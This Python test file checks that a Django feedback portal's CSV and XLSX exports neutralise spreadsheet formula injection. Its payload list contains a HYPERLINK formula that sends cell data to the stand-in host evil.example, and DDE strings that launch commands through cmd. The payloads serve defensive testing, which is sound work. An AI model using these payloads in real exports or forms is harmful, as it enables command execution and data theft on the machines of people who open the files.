"""Security matrix row I05: exports of submissions (CSV and XLSX) hold what was sent, and no
cell can run as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from home.models import FeedbackSubmission
from portal.exports import csv_response, spreadsheet_safe, xlsx_response
from tests.factories import make_editor
from tests.feedback import post_feedback

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_formula_starts_are_neutralised(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Report Remove", "a=b", "", "1-2", "Café"])
def test_ordinary_text_is_left_alone(value):
    assert spreadsheet_safe(value) == value


def test_numbers_and_empty_cells():
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) == ""


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()], sheet


def test_the_writers_escape_every_cell():
    rows = [[value, "plain"] for value in DANGEROUS]

    csv_rows = read_csv(csv_response(filename="x.csv", header=["=Header", "B"], rows=rows))
    xlsx_rows, sheet = read_xlsx(xlsx_response(filename="x.xlsx", header=["=Header", "B"], rows=rows))

    expected = [["'=Header", "B"]] + [["'" + value, "plain"] for value in DANGEROUS]
    assert csv_rows == expected
    # XML turns a carriage return into a line feed when the file is read; the apostrophe stays.
    assert xlsx_rows == [[cell.replace("\r", "\n") for cell in row] for row in expected]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def submissions(client, feedback_page, cumbria):
    for message in [*DANGEROUS[:3], "An ordinary message about the guidance."]:
        post_feedback(client, feedback_page, your_message=message, your_role="=cmd|' /C calc'!A0")
    post_feedback(client, feedback_page, what_is_your_feedback_about="Something else", your_message="Other topic.")
    return list(FeedbackSubmission.objects.order_by("pk"))


def export(client, fmt, **filters):
    client.force_login(make_editor())
    return client.get("/admin/feedback/submissions/", {"export": fmt, **filters})


@pytest.mark.django_db
def test_csv_export_of_the_filtered_list(client, submissions):
    response = export(client, "csv", topic="A guidance page")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[:8] == ["Reference", "Submitted", "Form", "Topic", "Region", "About the page", "Status", "Assignee"]
    assert "Your message" in header and "Your role" in header
    assert len(body) == 4
    messages = [row[header.index("Your message")] for row in body]
    assert sorted(messages) == sorted(
        ["'" + value for value in DANGEROUS[:3]] + ["An ordinary message about the guidance."]
    )
    assert {row[header.index("Your role")] for row in body} == {"'=cmd|' /C calc'!A0"}
    assert {row[0] for row in body} == {s.reference for s in submissions[:4]}


@pytest.mark.django_db
def test_xlsx_export_holds_text_never_formulas(client, submissions):
    response = export(client, "xlsx")

    assert response.status_code == 200
    rows, sheet = read_xlsx(response)
    header = rows[0]
    assert len(rows) == 1 + len(submissions)
    messages = {row[header.index("Your message")] for row in rows[1:]}
    assert "'" + DANGEROUS[0] in messages
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
